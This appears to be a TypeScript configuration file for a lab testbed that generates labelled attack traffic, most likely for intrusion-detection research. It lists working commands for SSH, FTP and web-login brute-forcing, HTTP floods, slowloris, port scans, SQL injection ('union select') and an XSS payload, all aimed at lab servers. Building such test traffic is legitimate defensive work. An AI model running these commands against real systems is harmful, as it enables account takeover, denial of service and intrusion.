import { facts, flood, form, ftp, scan, slow, ssh } from './attackFacts';
import { far, lossy, moreServers, servers, sshOptions } from './scenario';
import type { AttackFacts, Options, Scenario } from './scenario';

const { nginx, apache, app, plain } = servers;
const { lighttpd, haproxy, caddy, python: py } = moreServers;
const near = { delayMs: 7, jitterMs: 3, lossPercent: 0 };

const evil = (name: string, about: AttackFacts, command: string, options: Options = {}): Scenario => ({
  name,
  attack: about,
  commands: [command],
  seconds: 24,
  ...options,
});
const loop = (one: string): string => `for i in $(seq 900); do ${one}; done`;
const python = (kind: string, seconds: number, seed: number, host: string, port = 80): string =>
  `exec /usr/bin/python3 $PROGRAMS/attackAsync.py ${kind} ${seconds} ${seed} ${host} ${port}`;
const many = (count: number, one: string): string => `for n in $(seq ${count}); do (${loop(one)}) & done; wait`;
/** GoldenEye 2.1 as Debian has it stops at a division that Python 3.11 no longer rounds. */
const goldeneye = (at: string, words: string): string =>
  `sed 's|(acceptEncoding)/2|(acceptEncoding)//2|' /usr/bin/goldeneye > goldeneye.py; python3 goldeneye.py http://${at}/ ${words}`;
const sqli = (tool: string, ip: string): AttackFacts => facts('sqli', 'sqli', tool, ip);
const xss = (tool: string, ip: string): AttackFacts => facts('xss', 'xss', tool, ip);
const half = { seconds: 12 } as const;
const asked = '-o PreferredAuthentications=password';

/** The attacks of the other files by more tools, against the servers of `moreServers.ts`, over other paths. */
export const attackMore: readonly Scenario[] = [
  evil('more_ssh_asyncssh', ssh('asyncssh script', nginx), python('ssh', 24, 1, nginx, 22)),
  evil('more_ssh_asyncssh_far', ssh('asyncssh script', app), python('ssh', 24, 2, app, 22), { path: far }),
  evil('more_ssh_hydra', ssh('hydra', py), `hydra -I -t 4 -l ann -P words.txt ${py} ssh`, { path: near }),
  evil('more_ssh_hydra_slow', ssh('hydra', nginx), `hydra -I -t 1 -c 3 -l root -P words.txt ${nginx} ssh`, { offload: false }), // prettier-ignore
  evil('more_ssh_medusa', ssh('medusa', py), `medusa -h ${py} -u ann -P words.txt -M ssh -t 3`),
  evil('more_ssh_ncrack', ssh('ncrack', py), `ncrack -p 22 --user ann -P words.txt ${py}`, { path: lossy }),
  evil('more_ssh_patator', ssh('patator', py), `patator ssh_login host=${py} user=ann password=FILE0 0=words.txt -t 3 --max-retries=0`), // prettier-ignore
  evil('more_ssh_three', ssh('ssh guessing script', py), loop(`sshpass -p word$i ssh ${sshOptions} ${asked} -o NumberOfPasswordPrompts=3 ann@${py} true`), { path: lossy }), // prettier-ignore
  evil('more_ssh_rsync', ssh('rsync script', py), loop(`sshpass -p word$i rsync -e 'ssh ${sshOptions} ${asked} -o NumberOfPasswordPrompts=2' ann@${py}:/etc/hostname got`)), // prettier-ignore
  evil('more_ssh_rsync_near', ssh('rsync script', nginx), loop(`sshpass -p word$i rsync -e 'ssh ${sshOptions} ${asked} -o NumberOfPasswordPrompts=1' root@${nginx}:/etc/hostname got`), { path: near }), // prettier-ignore
  evil('more_ssh_git', ssh('git script', nginx), loop(`GIT_SSH_COMMAND='sshpass -p word$i ssh ${sshOptions} ${asked} -o NumberOfPasswordPrompts=1' git ls-remote git@${nginx}:repo.git`)), // prettier-ignore
  evil('more_ssh_nmap', ssh('nmap ssh-brute', app), `nmap -n -Pn -p 22 --script ssh-brute --script-args 'userdb=names.txt,passdb=words.txt' ${app}`, { path: far }), // prettier-ignore
  evil('more_ftp_hydra', ftp('hydra', py), `hydra -I -t 5 -l ann -P words.txt ${py} ftp`),
  evil('more_ftp_lftp', ftp('lftp', nginx), loop(`lftp -u ftpuser,word$i -e 'set net:max-retries 1; set net:timeout 5; ls; exit' ftp://${nginx} </dev/null`)), // prettier-ignore
  evil('more_ftp_lftp_far', ftp('lftp', py), loop(`lftp -u ann,word$i -e 'set net:max-retries 1; ls; exit' ftp://${py} </dev/null`), { path: far }), // prettier-ignore
  evil('more_ftp_medusa', ftp('medusa', py), `medusa -h ${py} -u ann -P words.txt -M ftp -t 3`, { path: lossy }),
  evil('more_ftp_patator', ftp('patator', py), `patator ftp_login host=${py} user=ann password=FILE0 0=words.txt -t 4 --max-retries=0`, { path: near }), // prettier-ignore
  evil('more_ftp_ncrack', ftp('ncrack', py), `ncrack -p 21 --user ann -P words.txt ${py}`),
  evil('more_ftp_curl', ftp('curl', py), loop(`curl -s -u ann:word$i ftp://${py}/ -o /dev/null`), { path: lossy }),
  evil('more_form_aiohttp', form('aiohttp script', py), python('form', 24, 3, py, 8080)),
  evil('more_form_aiohttp_closing', form('aiohttp script', py), python('formclosing', 24, 4, py, 8080), { path: near }),
  evil('more_form_hydra', form('hydra', py), `hydra -I -t 6 -l admin -P words.txt -s 8080 ${py} http-post-form '/account:user=^USER^&password=^PASS^:F=error'`, { path: far }), // prettier-ignore
  evil('more_form_httpie', form('httpie', py), loop(`http --ignore-stdin -b POST http://${py}:8080/login user=admin password=word$RANDOM >/dev/null`)), // prettier-ignore
  evil('more_form_ffuf', form('ffuf', py), `ffuf -s -t 6 -w words.txt -X POST -H 'Content-Type: application/x-www-form-urlencoded' -d 'user=admin&password=FUZZ' -u http://${py}:8080/account -fs 0`), // prettier-ignore
  evil('more_basic_hydra', form('hydra', lighttpd), `hydra -I -t 4 -l admin -P words.txt ${lighttpd} http-get /basic/`, { path: far }), // prettier-ignore
  evil('more_basic_aiohttp', form('aiohttp script', lighttpd), python('basic', 24, 5, lighttpd)),
  evil('more_basic_curl', form('curl', lighttpd), loop(`curl -s -u admin:word$RANDOM http://${lighttpd}/basic/ -o /dev/null`), { path: near }), // prettier-ignore
  evil('more_basic_ncrack', form('ncrack', apache), `ncrack --user admin -P words.txt 'http://${apache}:80,path=/basic/'`), // prettier-ignore
  evil('more_flood_goldeneye', flood('goldeneye', lighttpd), goldeneye(`${lighttpd}:80`, '-w 6 -s 25 -m random'), half),
  evil('more_flood_goldeneye_far', flood('goldeneye', haproxy), goldeneye(`${haproxy}:80`, '-w 5 -s 20'), { ...half, path: far }), // prettier-ignore
  evil('more_flood_goldeneye_app', flood('goldeneye', app), goldeneye(`${app}:8000`, '-w 4 -s 30'), { ...half, path: near }), // prettier-ignore
  evil('more_flood_aiohttp', flood('aiohttp script', haproxy), python('flood', 12, 6, haproxy), half),
  evil('more_flood_aiohttp_far', flood('aiohttp script', lighttpd), python('floodclosing', 12, 7, lighttpd), { ...half, path: far }), // prettier-ignore
  evil('more_flood_curl', flood('curl -Z', caddy), `curl -s -Z --parallel-max 60 -o /dev/null 'http://${caddy}/p3.html?[1-20000]'`, half), // prettier-ignore
  evil('more_flood_ab', flood('ab', lighttpd), `ab -q -t 8 -n 20000 -c 50 http://${lighttpd}/p2.html`, { ...half, path: near }), // prettier-ignore
  evil('more_flood_ab_post', flood('ab', py), `ab -q -t 8 -n 9000 -c 25 -p site/f900.bin http://${py}:8080/api`, half),
  evil('more_flood_siege', flood('siege', haproxy), `siege -q -b -c 30 -t 9S http://${haproxy}/p6.html`, { ...half, path: near }), // prettier-ignore
  evil(
    'more_flood_wrk',
    flood('wrk', caddy),
    `wrk -t 2 -c 80 -d 8s -H 'Connection: close' http://${caddy}/p1.html`,
    half,
  ),
  evil('more_flood_wrk_tls', flood('wrk', caddy), `wrk -t 2 -c 30 -d 8s https://${caddy}/p1.html`, half),
  evil('more_flood_h2load', flood('h2load', caddy), `h2load -n 30000 -c 20 -m 10 https://${caddy}/p1.html`, { ...half, path: near }), // prettier-ignore
  evil('more_flood_hey', flood('hey', lighttpd), `hey -z 8s -c 40 -disable-keepalive http://${lighttpd}/`, { ...half, path: lossy }), // prettier-ignore
  evil('more_flood_httperf', flood('httperf', caddy), `httperf --server ${caddy} --uri /p5.html --num-conns 3000 --rate 300 --timeout 5`, half), // prettier-ignore
  evil('more_flood_wget', flood('wget', lighttpd), many(15, `wget -q -t 1 -O /dev/null "http://${lighttpd}/p1.html?$RANDOM"`), half), // prettier-ignore
  evil('more_slow_async', slow('aiohttp slow script', haproxy), python('slow', 28, 8, haproxy), { seconds: 28 }),
  evil('more_slow_async_far', slow('aiohttp slow script', lighttpd), python('slow', 28, 9, lighttpd), { seconds: 28, path: far }), // prettier-ignore
  evil('more_slow_headers', slow('slowhttptest', lighttpd, 'slowloris'), `slowhttptest -H -c 100 -i 5 -r 25 -l 26 -u http://${lighttpd}/`, { seconds: 28 }), // prettier-ignore
  evil('more_slow_headers_caddy', slow('slowhttptest', caddy, 'slowloris'), `slowhttptest -H -c 80 -i 3 -r 40 -l 26 -x 12 -u http://${caddy}/`, { seconds: 28, path: lossy }), // prettier-ignore
  evil('more_slow_body', slow('slowhttptest', haproxy), `slowhttptest -B -c 100 -i 4 -r 30 -l 26 -s 9000 -x 8 -u http://${haproxy}/`, { seconds: 28, path: near }), // prettier-ignore
  evil('more_slow_read', slow('slowhttptest', lighttpd), `slowhttptest -X -c 70 -r 20 -l 26 -w 256 -y 1024 -n 4 -z 48 -u http://${lighttpd}/f4000000.bin`, { seconds: 28 }), // prettier-ignore
  evil('more_scan_async', scan('asyncio script', py), python('scan', 14, 10, py), { seconds: 14 }),
  evil('more_scan_async_far', scan('asyncio script', haproxy), python('scan', 14, 11, haproxy), { seconds: 14, path: far }), // prettier-ignore
  evil('more_scan_bash', scan('bash', lighttpd), `for p in $(seq 1 700); do (timeout 0.5 bash -c "</dev/tcp/${lighttpd}/$p") 2>/dev/null & [ $((p % 20)) = 0 ] && wait; done`, { seconds: 15 }), // prettier-ignore
  evil('more_scan_nmap_ack', scan('nmap', py), `nmap -n -Pn -sA -T4 --top-ports 200 ${py}; nmap -n -Pn -sM --top-ports 100 ${py}`, { seconds: 15, path: near }), // prettier-ignore
  evil('more_scan_nmap_lossy', scan('nmap', plain), `nmap -n -Pn -sS -T3 --top-ports 400 ${plain}`, { seconds: 20, path: lossy }), // prettier-ignore
  evil('more_scan_nmap_slow', scan('nmap', lighttpd), `nmap -n -Pn -sS --scan-delay 120ms --max-retries 0 -p 1-400 ${lighttpd}`, { seconds: 25 }), // prettier-ignore
  evil('more_scan_zmap', { ...facts('host_sweep', 'tcp', 'zmap', '10.88.0.0/24') }, `zmap -q -p 80 -r 200 -B 1M -i eth0 -G $SERVER_MAC --blacklist-file=/dev/null -c 2 10.88.0.0/24 -o /dev/null`, { seconds: 14 }), // prettier-ignore
  evil('more_scan_masscan', scan('masscan', py), `masscan -p 1-2000 --rate 600 --wait 2 --interface eth0 --router-mac $SERVER_MAC ${py}`, { seconds: 12, offload: false }), // prettier-ignore
  evil('more_sqli_aiohttp', sqli('aiohttp script', py), python('sqli', 24, 12, py, 8080)),
  evil('more_sqli_aiohttp_far', sqli('aiohttp script', py), python('sqli', 24, 13, py, 8080), { path: far }),
  evil('more_sqli_sqlmap_post', sqli('sqlmap', py), `sqlmap -u 'http://${py}:8080/item' --data 'id=3&name=x' --batch --flush-session --output-dir=sqlmap5 --level 2`), // prettier-ignore
  evil('more_sqli_wapiti', sqli('wapiti', py), `wapiti -u 'http://${py}:8080/item?id=1' -m sql,xss --scope page -v 0 --flush-session -o wapiti.html`), // prettier-ignore
  evil('more_sqli_httpie', sqli('httpie', py), loop(`http --ignore-stdin -b "http://${py}:8080/item" id=="$i' union select $RANDOM,2-- " >/dev/null`), { path: near }), // prettier-ignore
  evil('more_xss_aiohttp', xss('aiohttp script', py), python('xss', 24, 14, py, 8080), { path: near }),
  evil('more_xss_curl', xss('curl', py), loop(`curl -s -d "note=<img src=x onerror=alert($RANDOM)>" http://${py}:8080/item -o /dev/null; sleep 0.1`)), // prettier-ignore
  evil('more_beacon_async', facts('beacon', 'http', 'aiohttp script', py), python('beacon', 50, 15, py, 8080), { seconds: 50 }), // prettier-ignore
];
